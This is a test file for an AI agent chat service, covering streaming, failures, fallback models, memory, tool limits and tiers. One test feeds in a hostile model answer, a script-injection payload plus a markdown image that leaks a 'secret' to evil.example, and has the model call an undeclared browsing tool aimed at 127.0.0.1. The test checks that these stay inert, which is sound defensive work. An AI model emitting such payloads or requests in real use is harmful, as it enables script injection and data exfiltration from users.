import { randomUUID } from 'node:crypto'
import { expect, onTestFinished, test } from 'vitest'
import { html, LocalSite } from '../../../adapters/web/testing/local-site.ts'
import { launch, streamEvents } from '../../../../tests/support/people/chat-person.ts'
import type { Caller } from '../../../../tests/support/app/http-client.ts'
import { waitFor } from '../../../../tests/support/app/wait-for.ts'
import { startWithModel } from '../testing/start-with-model.ts'

const prompts = (requests: { body: Record<string, unknown> }[]) =>
  requests.map(({ body }) => JSON.stringify(body['messages']))

test(
  "a model's words are streamed as they come, with its tools as visible steps",
  { tags: 'long' },
  async () => {
    const { agent, model } = await startWithModel()
    model.next(
      { tool: 'calculator', input: { expression: '12 * 12' } },
      {
        sayToolResult: ([result]) => ['The ', 'tool ', `said ${/"value":"(\d+)"/.exec(result ?? '')?.[1]}.`],
      },
    )
    const events = await agent.stream('What is 12 times 12?')
    expect(events.map(({ type }) => type)).toEqual([
      'start',
      'tool-start',
      'tool-result',
      'delta',
      'delta',
      'delta',
      'done',
    ])
    expect(events[1]).toMatchObject({ tool: 'calculator', about: '12 * 12' })
    expect(events.at(-1)).toMatchObject({
      answer: {
        response: 'The tool said 144.',
        model_used: 'first-model',
        tools_used: [{ tool: 'calculator', success: true, result: { expression: '12 * 12', value: '144' } }],
      },
    })
  },
)

test('27: a model that does not answer is a 502 with a sentence, nothing is kept and nothing counted', async () => {
  const { agent, model, used } = await startWithModel()
  const conversation_id = randomUUID()
  model.next({ status: 401 }, { status: 401 })
  expect(await agent.say('hello', { conversation_id })).toMatchObject({
    status: 502,
    body: { code: 'provider-failed', detail: expect.stringMatching(/^The model service .* not counted\.$/) },
  })
  expect((await agent.stream('hello', { conversation_id })).at(-1)).toMatchObject({
    type: 'error',
    status: 502,
    code: 'provider-failed',
  })
  expect(await agent.history(conversation_id)).toEqual([])
  expect(await agent.conversations()).toEqual([])
  expect(await used()).toBe(0)
})

test(
  '27: an answer that breaks off ends with an error, what was streamed is kept as interrupted, and does not count',
  { tags: 'long' },
  async () => {
    const { agent, model, used } = await startWithModel()
    const conversation_id = randomUUID()
    model.next({ cutAfter: 2, text: ['Half ', 'an answer', ' and more'] })
    const events = await agent.stream('hello', { conversation_id })
    expect(events.at(-1)).toMatchObject({ type: 'error', status: 502 })
    expect(await agent.history(conversation_id)).toMatchObject([
      { sender: 'user', content: 'hello' },
      { sender: 'assistant', content: 'Half an answer', interrupted: true },
    ])
    expect(await used()).toBe(0)
  },
)

test('38: a person who goes away ends the model call, and what was written is kept', async () => {
  const { agent, model, user, used } = await startWithModel()
  const conversation_id = randomUUID()
  const away = new AbortController()
  model.next({ silentAfter: 2, text: ['Half ', 'an answer', ' and more'] })
  const reading = (async () => {
    let words = ''
    const body = { message: 'hello', conversation_id }
    for await (const event of streamEvents(user, `${agent.path}/chat`, body, away.signal)) {
      if (event.type === 'delta') words += event.text
      if (words === 'Half an answer') away.abort()
    }
  })()
  await expect(reading).rejects.toThrow()
  await waitFor(async () => model.abandoned === 1)
  const history = await waitFor(async () => {
    const messages = await agent.history(conversation_id)
    return messages.length > 0 && messages
  })
  expect(history).toMatchObject([{ content: 'hello' }, { content: 'Half an answer', interrupted: true }])
  // It counts because the person ended it: had the model been given up as silent, it would not.
  expect(await used()).toBe(1)
})

test('an answer that the fallback gave names the fallback', { tags: 'long' }, async () => {
  const { agent, model } = await startWithModel({ FALLBACK_MODEL: 'compatible:second-model' })
  model.next({ status: 401 }, { text: ['Here I am.'] })
  const { body } = await agent.say('hello')
  expect(body).toMatchObject({ response: 'Here I am.', model_used: 'second-model' })
  expect(model.requests.map(({ body: sent }) => sent['model'])).toEqual(['first-model', 'second-model'])
  expect(await agent.history(body.conversation_id)).toMatchObject([{}, { model_used: 'second-model' }])
})

test('the model is told the history, what is remembered and what is attached', { tags: 'long' }, async () => {
  const { agent, model, user } = await startWithModel()
  const conversation_id = randomUUID()
  model.next({ tool: 'remember', input: { fact: 'Lives in Porto' } }, { text: ['Noted.'] })
  await agent.say('I live in Porto', { conversation_id })
  const form = new FormData()
  form.set('file', new Blob(['The deposit is 431 euros.']), 'lease.txt')
  const file = await user.ask<{ id: string }>('POST', `${agent.path}/files`, { raw: form })
  model.next({ text: ['431 euros.'] })
  const { body } = await agent.say('How much?', { conversation_id, file_ids: [file.body.id] })
  expect(body.memory_debug).toEqual({
    history_messages: 2,
    summarised_messages: 0,
    facts_used: ['Lives in Porto'],
  })
  const prompt = prompts(model.requests).at(-1)
  for (const known of [
    'Lives in Porto',
    'I live in Porto',
    'Noted.',
    'lease.txt',
    'The deposit is 431 euros.',
  ])
    expect(prompt).toContain(known)
})

test(
  'what no longer fits is told as a summary, and no message falls between the two',
  { tags: 'long' },
  async () => {
    const { app, model } = await startWithModel()
    const user = await app.newProUser()
    const agent = await launch(app, user, 'Invoice Helper')
    const conversation_id = randomUUID()
    const turns = 34
    for (let n = 1; n <= turns; n += 1) {
      model.next({ text: [`Invoice number ${n} is noted.`] })
      await agent.say(`Please note the invoice number ${n} for me.`, { conversation_id })
    }
    model.next({ text: ['Done.'] })
    const { body } = await agent.say('What did I say?', { conversation_id })
    expect(body.memory_debug).toMatchObject({ history_messages: 60, summarised_messages: 8 })
    const prompt = prompts(model.requests).at(-1)
    for (let n = 1; n <= turns; n += 1) expect(prompt).toContain(`invoice number ${n} for me`)
  },
)

test(
  '23: a model that only calls tools is asked to answer at its last step, and is not counted when it does not',
  { tags: 'long' },
  async () => {
    const { agent, model, used } = await startWithModel()
    const call = { tool: 'calculator', input: { expression: '1 + 1' } }
    const seven = Array.from({ length: 7 }, () => call)
    model.next(...seven, { text: ['Two, I am sure.'] })
    const { body } = await agent.say('What is 1 + 1?')
    expect(body.response).toBe('Two, I am sure.')
    expect(body.tools_used).toHaveLength(7)
    expect(model.requests.map(({ body: sent }) => sent['tool_choice'])).toEqual([
      ...seven.map(() => 'auto'),
      'none',
    ])
    // What a turn can cost at most: eight answers of so many tokens.
    for (const { body: sent } of model.requests) expect(sent['max_tokens']).toBe(4000)

    model.next(...seven, call, { text: ['never asked for'] })
    expect(await agent.say('What is 1 + 1?')).toMatchObject({
      status: 502,
      body: { detail: 'The model gave no answer. Your message was not counted; please try again.' },
    })
    expect(await used()).toBe(1)
  },
)

test('23: a model that calls a hundred tools at once gets eight', async () => {
  const { agent, model } = await startWithModel()
  const call = { tool: 'calculator', input: { expression: '1 + 1' } }
  model.next({ calls: Array.from({ length: 100 }, () => call) }, { text: ['Two.'] })
  const events = await agent.stream('What is 1 + 1?')
  const done = events.at(-1)
  if (done?.type !== 'done') throw new Error(`the stream ended with ${JSON.stringify(done)}`)
  expect(done.answer.tools_used).toHaveLength(100)
  expect(done.answer.tools_used.filter(({ success }) => success)).toHaveLength(8)
  const names = events.flatMap((event) => (event.type === 'tool-start' ? [event.call_id] : []))
  expect(new Set(names).size).toBe(100)
})

test('19: what a model writes is passed on as text, and no tool runs that the template does not declare', async () => {
  const { agent, model } = await startWithModel()
  const hostile = '<script>alert(1)</script>![x](https://evil.example/?q=secret)'
  model.next({ tool: 'web_browsing', input: { url: 'http://127.0.0.1/' } }, { text: [hostile] })
  const { body } = await agent.say('hello')
  expect(body.response).toBe(hostile)
  expect(body.tools_used).toMatchObject([{ tool: 'logic', name: 'web_browsing', success: false }])
})

test(
  'research answers with the question, what was found and its key findings',
  { tags: 'long' },
  async () => {
    const site = await new LocalSite().start()
    onTestFinished(() => site.stop())
    const hit = { title: 'Snail', url: 'https://example.org/snail', content: 'Snails are slow.' }
    site.pages['/search'] = html(JSON.stringify({ results: [hit] }))
    const { app, model, user } = await startWithModel({ SEARCH_URL: site.url('/search') })
    const agent = await launch(app, user, 'Source Scout')
    model.next({ tool: 'research', input: { query: 'snails' } }, { text: ['They are slow.'] })
    const { body } = await agent.say('How fast are they?')
    expect(body.tools_used).toEqual([
      {
        tool: 'research',
        success: true,
        about: 'snails',
        input: { query: 'snails' },
        ms: expect.any(Number),
        result: {
          query: 'snails',
          results: [{ title: 'Snail', url: 'https://example.org/snail', snippet: 'Snails are slow.' }],
          key_findings: ['Snails are slow.'],
        },
      },
    ])
  },
)

test(
  'free people are answered by the free model, people with Pro by the other',
  { tags: 'long' },
  async () => {
    const models = { FREE_MODEL: 'compatible:small-model', PRO_MODEL: 'compatible:large-model' }
    const { app, agent, model } = await startWithModel(models)
    expect((await app.visitor().get('/models')).body).toMatchObject({
      free: 'small-model',
      pro: 'large-model',
    })
    const ofPro = await launch(app, await app.newProUser(), 'Invoice Helper')
    model.next({ text: ['Here I am.'] }, { text: ['Here I am.'] })
    expect((await agent.say('hello')).body).toMatchObject({ model_used: 'small-model', user_tier: 'free' })
    expect((await ofPro.say('hello')).body).toMatchObject({ model_used: 'large-model', user_tier: 'pro' })
  },
)

test('an answer is written for the ear only for people with Pro, and only where the agent has a voice', async () => {
  const { app, model, user } = await startWithModel()
  const pro = await app.newProUser()
  const answeredFor = async (person: Caller, template: string) => {
    const agent = await launch(app, person, template)
    model.next({ text: ['Here I am.'] })
    const { body } = await agent.say('hello', { voice_enabled: true })
    const isForTheEar = prompts(model.requests).at(-1)?.includes('Your answer will be read aloud')
    return [body.voice_enabled, isForTheEar]
  }
  expect(await answeredFor(pro, 'Phrasebook')).toEqual([true, true])
  expect(await answeredFor(user, 'Phrasebook')).toEqual([false, false])
  expect(await answeredFor(pro, 'Invoice Helper')).toEqual([false, false])
})
